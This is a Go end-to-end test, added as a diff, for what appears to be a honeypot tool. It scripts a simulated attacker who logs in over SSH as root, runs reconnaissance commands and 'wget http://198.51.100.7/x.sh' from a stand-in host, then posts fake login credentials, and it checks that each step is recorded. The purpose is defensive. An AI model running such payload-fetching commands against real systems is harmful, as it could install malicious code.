@@ -1,0 +1,125 @@
+package e2e_test
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/decnet/decnet/cmd/decnet/instance"
+	"github.com/decnet/decnet/pkg/decnet"
+)
+
+const (
+	username = "root"
+	secret   = "Summer2026!"
+	// soon is how fast an attack is to be seen.
+	soon = time.Second
+)
+
+var script = []string{"id", "uname -a", "wget http://198.51.100.7/x.sh", "exit"}
+
+// ssh logs in with the real OpenSSH client.
+func ssh(t *testing.T, s decnet.ServiceState, stdin string, args ...string) string {
+	t.Helper()
+	all := append([]string{
+		"-p", secret, "ssh", "-p", fmt.Sprint(s.Port), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+		"-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=10",
+	}, args...)
+	out, _ := run(t, stdin, "sshpass", append(all[:len(all):len(all)], username+"@"+s.Address.String())...)
+	return out
+}
+
+func TestAnAttackIsSeenWithinASecond(t *testing.T) {
+	need(t, "ssh", "sshpass", "curl", "chromium")
+	i := start(t, t.TempDir(), instance.Options{})
+	at := service(t, i, "ssh")
+	web := service(t, i, "http")
+	page := openDashboard(t, i)
+
+	forms := []struct {
+		name string
+		run  func() string
+	}{
+		{"as one command", func() string {
+			out, _ := run(t, "", "sshpass", "-p", secret, "ssh", "-p", fmt.Sprint(at.Port), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+				"-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no", username+"@"+at.Address.String(), strings.Join(script, "; "))
+			return out
+		}},
+		{"typed without a terminal", func() string { return ssh(t, at, strings.Join(script, "\n")+"\n", "-T") }},
+		{"typed into a terminal", func() string { return ssh(t, at, strings.Join(script, "\n")+"\n", "-tt") }},
+	}
+	commands, attempts := 0, 0
+	for _, form := range forms {
+		t.Run(form.name, func(t *testing.T) {
+			out := form.run()
+			if !strings.Contains(out, "uid=0(root)") || !strings.Contains(out, "Linux") || !strings.Contains(out, "GNU/Linux") {
+				t.Fatalf("the shell answered %q", out)
+			}
+			commands, attempts = commands+len(script), attempts+1
+			var have []decnet.Event
+			eventually(t, soon, "the session's end is stored", func() bool {
+				have = events(t, i, "&service=ssh&kind=disconnect")
+				return len(have) == attempts
+			})
+			session := "&session=" + have[len(have)-1].Session
+			var ran []string
+			for _, e := range events(t, i, session+"&kind=command") {
+				ran = append(ran, e.Fields[decnet.FieldCommand])
+			}
+			if !slices.Equal(ran, script) {
+				t.Errorf("commands are %q, want %q", ran, script)
+			}
+			tried := events(t, i, session+"&kind=auth_attempt")
+			if len(tried) != 1 || tried[0].Fields[decnet.FieldPrincipal] != username || tried[0].Fields[decnet.FieldSecret] != secret || tried[0].Source.String() != "127.0.0.1" {
+				t.Errorf("attempts are %+v", tried)
+			}
+		})
+	}
+
+	body, err := run(t, "", "curl", "-sS", "-A", "probe/1.0", "-d", "username=admin&password=hunter2", fmt.Sprintf("http://%s:%d/login", web.Address, web.Port))
+	if err != nil || body == "" {
+		t.Fatalf("curl: %v: %s", err, body)
+	}
+	eventually(t, soon, "the request is stored", func() bool { return len(events(t, i, "&service=http&kind=request")) == 1 })
+	request := events(t, i, "&service=http&kind=request")[0]
+	if request.Fields["method"] != "POST" || request.Fields["path"] != "/login" || request.Fields["user_agent"] != "probe/1.0" {
+		t.Errorf("the request is %+v", request.Fields)
+	}
+
+	var p struct {
+		ID, Address string
+		decnet.Profile
+	}
+	eventually(t, soon, "the profile is complete", func() bool {
+		err := i.Get(t.Context(), "/attackers/127.0.0.1", &p)
+		return err == nil && p.CommandCount == uint64(commands) && p.Services["http"] > 0 && len(p.Credentials) == 2
+	})
+	if p.Credentials[0].Principal != username || p.Credentials[0].Secret != secret || p.Credentials[0].Attempts != uint64(attempts) || !p.Credentials[0].Accepted {
+		t.Errorf("the first credential is %+v", p.Credentials[0])
+	}
+	if p.Credentials[1].Principal != "admin" || p.Credentials[1].Secret != "hunter2" || p.Credentials[1].Accepted {
+		t.Errorf("the second credential is %+v", p.Credentials[1])
+	}
+	everyEventOnce(t, i)
+	page.shows(soon, "127.0.0.1", "root / "+secret, "$ uname -a", "$ wget http://198.51.100.7/x.sh", "POST /login")
+	page.open("/attackers/7f000001")
+	page.shows(5*time.Second, "hunter2", secret, "uname -a", "wget http://198.51.100.7/x.sh")
+}
+
+// everyEventOnce checks that ids are unique and that the attacker's timeline is
+// numbered without gaps in the order of the list.
+func everyEventOnce(t *testing.T, i *instance.Instance) {
+	t.Helper()
+	ids := map[string]bool{}
+	for n, e := range events(t, i, "&attacker=127.0.0.1") {
+		if ids[e.ID] {
+			t.Errorf("event %s is there twice", e.ID)
+		}
+		ids[e.ID] = true
+		if e.Seq != uint64(n+1) {
+			t.Errorf("event %d has number %d", n+1, e.Seq)
+		}
+	}
+}
